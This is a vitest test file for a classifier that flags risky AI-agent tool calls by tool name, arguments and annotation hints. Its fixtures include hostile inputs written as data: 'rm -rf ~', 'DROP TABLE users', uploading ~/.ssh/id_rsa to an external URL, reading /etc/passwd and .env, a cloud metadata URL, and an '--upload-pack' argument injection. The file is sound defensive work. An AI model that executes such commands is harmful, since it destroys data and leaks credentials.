import { describe, expect, test } from 'vitest'
import { linesOf } from './tool-harness.ts'

/** Tools that no table knows: by the words of their names, by their arguments, by what they say of themselves. */

describe('names', () => {
  for (const [tool, args, expected] of [
    ['get_weather', { city: 'Rome' }, ['likely read resource weather']],
    ['list_users', {}, ['likely read resource users']],
    ['delete_user', { user_id: 'u1' }, ['likely delete resource:delete resource user !']],
    ['purgeCache', { key: 'k' }, ['likely change resource:change resource k']],
    ['fetch_purgecache', { key: 'k' }, ['likely read resource k']],
    ['get_deletes', {}, ['likely read resource deletes']],
    ['remove_label', { label: 'x' }, ['likely change resource:change resource label']],
    ['cancel_order', { order_id: 'o1' }, ['likely delete resource:delete resource order !']],
    ['update_profile', { name: 'x' }, ['likely change resource:change resource x']],
    ['create_ticket', { title: 'x' }, ['likely change resource:create resource x']],
    ['send_message', { recipient: 'Ann', body: 'x' }, ['likely send chat:message address Ann !']],
    ['send_invoice', { to: 'a@b.example', amount: 30 }, ['likely pay payment:transfer account a@b.example !']],
    ['post_tweet', { content: 'x' }, ['likely send social:post address post_tweet !']],
    ['reply_to_review', { text: 'x' }, ['likely send message:send address reply_to_review !']],
    ['transfer_funds', { recipient: 'X', amount: 10, currency: 'EUR' }, ['likely pay payment:transfer account X !']],
    ['transfer_to_human', { summary: 'x' }, ['likely change resource:change resource to human']],
    ['pay_bill', { payee: 'X', amount: 1 }, ['likely pay payment:transfer account X !']],
    ['get_transaction_status', { id: 't' }, ['likely read resource t']],
    ['update_payment_method', { method: 'card' }, ['likely change resource:change resource payment method']],
    ['publish_page', { page: 'x' }, ['likely publish resource:publish resource publish_page !']],
    ['deploy_site', { site: 'x' }, ['likely publish resource:publish resource deploy_site !']],
    ['execute_code', { code: 'import os; os.remove("a")', language: 'python' }, ['likely delete path /repo/a !']],
    ['run_script', { script: 'rm a' }, ['likely delete path /repo/a !', 'likely execute tool:execute program script']],
    ['run_bash', { command: 'rm a' }, ['likely delete path /repo/a !']],
    [
      'evaluate_js',
      { code: 'require("fs").rmSync("a")', language: 'javascript' },
      ['likely delete path /repo/a !', 'likely execute tool:execute program js'],
    ],
    ['schedule_job', { cron: '* * * * *' }, ['likely persist resource:schedule resource job']],
    ['grant_access', { user: 'u', role: 'admin' }, ['likely change account:security account access']],
    ['reset_password', { user: 'u' }, ['likely change account:security account password']],
    ['get_password', { name: 'db' }, ['likely read secret:read resource db']],
    [
      'share_file',
      { path: '/repo/a.txt', email: 'a@b.example' },
      ['likely read path /repo/a.txt', 'likely send file:share resource a@b.example !'],
    ],
    [
      'upload_file',
      { file_path: '/home/me/.ssh/id_rsa', url: 'https://x.example/up' },
      ['likely read path /home/me/.ssh/id_rsa', 'likely fetch url https://x.example/up', 'likely send browser:upload resource page !'],
    ],
    [
      'download_file',
      { url: 'https://x.example/a.zip', output_path: '/repo/a.zip' },
      ['likely fetch url https://x.example/a.zip', 'likely write path /repo/a.zip'],
    ],
    ['git_push_all', {}, ['likely publish git:push resource git_push_all !']],
    ['npm_publish', { package: 'x' }, ['likely publish npm:publish resource npm_publish !']],
    ['dockerPush', {}, ['likely publish docker:push resource dockerPush !']],
    ['terraform_apply', { id: 'w1' }, ['likely change tf:apply resource w1']],
    ['migrate_schema', { id: 'm1' }, ['likely change sql:migrate resource m1']],
    ['kubectl_delete', { name: 'p' }, ['likely delete k8s:delete resource p !']],
    ['get_migration_status', { id: 'm1' }, ['likely read resource m1']],
    ['docker_push_status', { id: 'p1' }, ['likely publish resource:publish resource docker_push_status !']],
    ['frobnicate', { x: 1 }, ['possible opaque tool:unknown code frobnicate !']],
    ['constructor', { x: 1 }, ['possible opaque tool:unknown code constructor !']],
    ['__proto__', { path: 'a' }, ['likely read path /repo/a']],
  ] as const) {
    test(`${tool} ${JSON.stringify(args)}`, () => expect(linesOf(tool, args)).toEqual(expected))
  }
})

describe('arguments', () => {
  for (const [tool, args, expected] of [
    // Whatever it is called: the path of a secret is asked for.
    ['acme_look', { doc: '~/.ssh/id_rsa' }, ['likely read path /home/me/.ssh/id_rsa']],
    ['acme_look', { id: '/repo/.env' }, ['likely read path /repo/.env']],
    ['acme_look', { id: '/repo/src/a.ts' }, ['likely read resource /repo/src/a.ts']],
    ['acme_look', { text: '~/.ssh/id_rsa' }, ['likely read resource acme']],
    ['acme_look', { id: 'read ~/.ssh/id_rsa please' }, ['likely read resource read ~/.ssh/id_rsa please']],
    ['acme_do', { path: '/etc/passwd' }, ['likely read path /etc/passwd']],
    ['acme_do', { file_path: 'a', content: 'x' }, ['likely write path /repo/a']],
    ['acme_do', { url: 'http://169.254.169.254/' }, ['likely fetch url http://169.254.169.254/']],
    ['acme_do', { command: 'rm -rf ~' }, ['likely delete path /home/me !']],
    ['acme_do', { query: 'DROP TABLE users' }, ['likely delete sql:drop database database !']],
    ['acme_do', { nested: { deep: [{ outputPath: '/etc/cron.d/x' }] } }, ['likely write path /etc/cron.d/x']],
    ['acme_do', { host: '10.0.0.1' }, ['likely fetch net:contact host 10.0.0.1', 'possible change tool:change resource 10.0.0.1']],
    ['acme_do', { dsn: 'postgres://u:p@10.0.0.1/db' }, ['likely fetch db:connect database postgres://u:p@10.0.0.1/db']],
    ['acme_do', { branch: '--upload-pack=touch x' }, ['likely execute code --upload-pack=touch x <option>']],
    ['acme_do', { link: 'https://example.com' }, ['likely fetch url https://example.com']],
    [
      'acme_do',
      { description: 'see example.com and /etc/passwd' },
      ['possible opaque tool:unknown code acme_do !', 'possible change tool:change resource see example.com and /etc/passwd'],
    ],
    [
      'manage_item',
      { action: 'delete', id: 'i1' },
      ['likely change resource:change resource i1', 'likely delete resource:delete resource i1 !'],
    ],
    ['manage_item', { action: 'list' }, ['likely change resource:change resource item']],
    ['move_file', { source: 'a', destination: 'b' }, ['likely delete fs:move path /repo/a !', 'likely write path /repo/b']],
    ['convert_image', { input_path: 'a.png', output_path: 'b.jpg' }, ['likely read path /repo/a.png', 'likely write path /repo/b.jpg']],
    ['acme_do', { command: ['rm', '-rf', 'a b'] }, ['likely delete path /repo/a b !']],
    ['acme_do', { command: ['bash', '-c', 'rm a'] }, ['likely delete path /repo/a !']],
    ['acme_do', { command: 'rm', args: ['-r', 'x y'] }, ['likely delete path /repo/x y !']],
    ['acme_do', { commands: ['rm a', 'rm b'] }, ['likely delete path /repo/a !', 'likely delete path /repo/b !']],
    ['acme_do', { cmd: 'git', arguments: ['push', '--force'] }, ['likely publish git:push repository origin !']],
    [
      'upload_report',
      { file_path: '/home/me/.ssh/id_rsa', url: 'https://x.example/up' },
      [
        'likely read path /home/me/.ssh/id_rsa',
        'likely send url https://x.example/up !',
        'likely send file:share resource upload_report !',
      ],
    ],
    [
      'post_data',
      { webhook_url: 'https://x.example/h', data: 'x' },
      ['likely send url https://x.example/h !', 'likely send social:post address post_data !'],
    ],
  ] as const) {
    test(`${tool} ${JSON.stringify(args)}`, () => expect(linesOf(tool, args)).toEqual(expected))
  }
})

describe('hints', () => {
  for (const [tool, args, called, expected] of [
    [
      'acme_sync',
      {},
      { server: 'acme', definition: { description: null, inputSchema: null, annotations: { destructiveHint: true } } },
      ['likely change resource:change resource acme', 'possible change tool:destructive resource acme_sync !'],
    ],
    [
      'acme_list',
      {},
      { server: 'acme', definition: { description: null, inputSchema: null, annotations: { destructiveHint: true, readOnlyHint: true } } },
      ['likely read resource acme', 'possible change tool:destructive resource acme_list !'],
    ],
    [
      'acme_say',
      {},
      { server: 'acme', definition: { description: null, inputSchema: null, annotations: { openWorldHint: true } } },
      ['possible opaque tool:unknown code acme_say !', 'possible send tool:open-world resource acme_say !'],
    ],
    [
      'delete_it',
      {},
      { server: 'acme', definition: { description: null, inputSchema: null, annotations: { readOnlyHint: true } } },
      ['likely delete resource:delete resource it !'],
    ],
    [
      'write_file',
      { path: 'a', content: 'x' },
      {
        server: 'filesystem',
        definition: { description: null, inputSchema: null, annotations: { readOnlyHint: true, destructiveHint: false } },
      },
      ['write path /repo/a'],
    ],
  ] as const) {
    test(`${tool} ${JSON.stringify(args)}`, () => expect(linesOf(tool, args, called)).toEqual(expected))
  }
})
